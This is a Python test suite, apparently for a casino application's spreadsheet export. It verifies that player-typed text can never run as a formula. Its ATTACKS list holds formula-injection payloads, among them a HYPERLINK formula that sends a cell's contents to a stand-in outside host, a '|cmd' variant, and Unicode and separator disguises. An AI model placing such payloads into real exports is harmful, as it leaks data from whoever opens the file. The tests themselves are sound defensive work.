"""No spreadsheet runs what somebody typed into a claim or a note, whatever it takes for a separator."""

from __future__ import annotations

import ast
import re
import unicodedata
from typing import Final

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from casino.embedded.servers import BASE_DIR
from tables.reports import spreadsheets

CALL = '=HYPERLINK("http://elsewhere/"&A1)'
ATTACKS = [
    CALL, f"x;{CALL}", f'x;"{CALL}', f"x\t{CALL}", f"x\r\n{CALL}", f"x|{CALL}", f"  {CALL}", f"\ufeff{CALL}",
    f"\u200b{CALL}", f"\x01{CALL}", f"\xa0{CALL}", f"'{CALL}", "＝1+1", "x; ＋1", "－1", "＠SUM(A1)", "﹦1", "-1+1|cmd",
    "@SUM(A1)", "\t=1", "\r=1", "x\u2028=1", "+1", "-1", " =1", "\n=1",
]  # fmt: skip
PIECES = st.sampled_from([*"=+-@＝＋－＠;|\t\r\n\"' ,x1", "\ufeff", "\u200b", "\x01", "\xa0", "\u2028"])
TEXTS = st.lists(PIECES, max_size=12).map("".join) | st.text(max_size=30)


def formulas(text: str) -> list[str]:
    """The cells that begin as a formula, where each of the usual characters separates and quotes mean nothing."""
    cells = re.split(r"[;|\t\r\n\v\f\x85\u2028\u2029]", text)
    cells = [re.sub(r'^[\s"]+', "", "".join(filter(is_visible, cell))) for cell in cells]
    return [cell for cell in cells if unicodedata.normalize("NFKC", cell[:1]) in {"=", "+", "-", "@"}]


def is_visible(letter: str) -> bool:
    return unicodedata.category(letter) not in {"Cc", "Cf"}


def test_what_looks_like_a_formula_anywhere_is_text() -> None:
    """Harm: an auditor opens a list of disputes, and a player's claim sends it elsewhere."""
    for text in ATTACKS:
        assert formulas(text.lstrip("'")), f"this test does not see the attack {text!r}"
        assert formulas(spreadsheets.spell([[5, text, "x"]]).removesuffix("\r\n")) == []


@given(TEXTS)
def test_no_text_is_a_formula_in_any_country(text: str) -> None:
    assert formulas(str(spreadsheets.cell(text))) == []


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), min_size=1, max_size=3))
def test_no_workbook_has_a_formula(rows: list[list[str]]) -> None:
    """Also of what is left when the characters are taken out that a workbook cannot hold."""
    with spreadsheets.workbook(("a", "b"), [rows], about=rows) as file:
        book = load_workbook(file)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []


def test_what_is_no_formula_stays_as_it_is() -> None:
    """Harm: evidence that is no longer what it was."""
    for value in ("Rocket 1", "a; b", "9-5", "a=b", "x, -5", '{"a":-1,"b":"="}', "", -5, 2.5, True):
        assert spreadsheets.cell(value) == value


@given(TEXTS)
def test_a_file_of_ours_that_comes_back_says_what_it_said(text: str) -> None:
    """Harm: a table whose name looks like a formula is exported under another one, and refused when it comes back."""
    assert spreadsheets.unguarded(str(spreadsheets.cell(text))) == text


# --- Nobody writes past the guard ------------------------------------------------------------------------------

READS: Final = {"reader", "DictReader", "Error", "Sniffer"}
"""What of ``csv`` makes no list. A file that comes in is read wherever it is judged."""


def writes_lists(source: str) -> bool:
    """Whether a module takes anything of ``csv`` but what reads, or anything of ``openpyxl``."""
    if not re.search("csv|openpyxl", source):
        return False
    tree = ast.parse(source)
    names = {"csv"}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names |= {name.asname for name in node.names if name.name == "csv" and name.asname}
            if any(name.name.partition(".")[0] in {"openpyxl", "_csv"} for name in node.names):
                return True
        if isinstance(node, ast.ImportFrom) and node.module:
            if node.module.partition(".")[0] in {"openpyxl", "_csv"}:
                return True
            if node.module == "csv" and not {name.name for name in node.names} <= READS:
                return True
    uses = [node for node in ast.walk(tree) if isinstance(node, ast.Name) and node.id in names]
    reads = [
        node.value
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.attr in READS
    ]
    return any(use not in reads for use in uses)  # also csv handed on as a whole, or asked by getattr


WRITERS: Final = (
    "import csv\ncsv.writer(sheet)",
    "import csv as lists\nlists.DictWriter(sheet, names)",
    "from csv import reader, writer",
    "from csv import *",
    "import csv\nmake = csv\nmake.writer(sheet)",
    'import csv\ngetattr(csv, "wri" + "ter")(sheet)',
    "def book():\n    from openpyxl.workbook import Workbook",
    "from _csv import writer",
)
READERS: Final = ("import csv\ncsv.reader(text)\ncsv.Error", "from csv import DictReader", "x = 1")


def test_this_test_distinguishes_a_writer_from_a_reader() -> None:
    assert [source for source in (*WRITERS, *READERS) if writes_lists(source)] == list(WRITERS)


def test_nobody_writes_a_list_past_the_guard() -> None:
    """Harm: a second writer, that knows nothing of this."""
    sources = [path for app in ("casino", "dealer_ui", "ledger", "tables") for path in (BASE_DIR / app).rglob("*.py")]
    writers = {path.relative_to(BASE_DIR).as_posix() for path in sources if writes_lists(path.read_text())}
    assert writers == {"tables/reports/spreadsheets.py"}
